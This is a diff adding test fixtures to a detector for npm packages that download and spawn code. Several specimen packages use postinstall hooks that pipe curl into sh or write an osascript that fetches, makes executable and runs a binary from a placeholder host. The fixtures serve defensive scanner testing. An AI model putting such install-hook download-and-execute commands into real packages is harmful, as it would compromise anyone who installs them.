@@ -43,6 +43,22 @@ examine(downloadsAndSpawns, {
       files: { 'index.js': `exports.up = () => require('child_process').execSync('curl -fsSL https://get.invalid/install.sh | sh')` },
       weight: 'weak',
     },
+    {
+      when: 'the command lies in a script that is written first',
+      files: {
+        'package.json': { name: 'specimen', scripts: { postinstall: 'node s.js' } },
+        's.js': `const script = require('os').tmpdir() + '/6202'; require('fs').writeFileSync(script, 'do shell script "curl -o /tmp/x http://stage.invalid/x && chmod 770 /tmp/x && /tmp/x &"'); require('child_process').exec('osascript "' + script + '"')`,
+      },
+      weight: 'proof',
+    },
+    {
+      when: 'it stands in a script of the package',
+      files: {
+        'package.json': { name: 'specimen', scripts: { postinstall: 'sh setup.sh' } },
+        'setup.sh': '#!/bin/sh\n# prepares\ncurl -s https://get.invalid/x | sh\n',
+      },
+      weight: 'strong',
+    },
   ],
   silent: [
     {
@@ -54,6 +70,17 @@ examine(downloadsAndSpawns, {
     {
       when: 'PowerShell has an execution policy',
       files: { 'index.js': `require('child_process').spawn('powershell', ['-ExecutionPolicy', 'Bypass', '-File', 'a.ps1'])` },
+    },
+    {
+      when: 'a script that is written only builds',
+      files: {
+        'package.json': { name: 'specimen', scripts: { postinstall: 'node s.js' } },
+        's.js': `require('fs').writeFileSync('build.sh', 'make && make install'); require('child_process').exec('sh build.sh')`,
+      },
+    },
+    {
+      when: 'nothing starts the script of the package',
+      files: { 'index.js': '1', 'scripts/dev.sh': 'curl -s https://get.invalid/x | sh\n' },
     },
   ],
 });
